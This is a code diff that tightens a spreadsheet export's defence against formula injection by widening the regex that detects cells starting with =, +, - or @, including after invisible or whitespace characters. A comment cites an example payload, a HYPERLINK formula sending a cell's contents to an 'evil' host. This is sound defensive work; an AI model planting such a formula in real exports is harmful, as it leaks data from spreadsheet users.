@@ -4,8 +4,12 @@
  * them: a server called `=HYPERLINK("http://evil/?"&A1)` must reach the sheet as text, not as a formula.
  */
 
-/** The first characters that make Excel, LibreOffice or Sheets read a cell as a formula (OWASP's list). */
-const FORMULA_START = /^[=+\-@\t\r]/;
+/**
+ * Text that Excel, LibreOffice or Sheets read as a formula: OWASP's first characters (`=`, `+`, `-`, `@`, tab, CR),
+ * also behind anything a spreadsheet skips or a reader does not see before them: spaces of every kind, control
+ * characters and invisible format characters (a zero-width space, a byte order mark, a word joiner).
+ */
+const FORMULA_START = /^[\t\r]|^[\p{White_Space}\p{Cc}\p{Cf}]*[=+\-@]/u;
 
 /**
  * One cell. Text that a spreadsheet would run gets a leading `'`, which they show as text and do not run; numbers
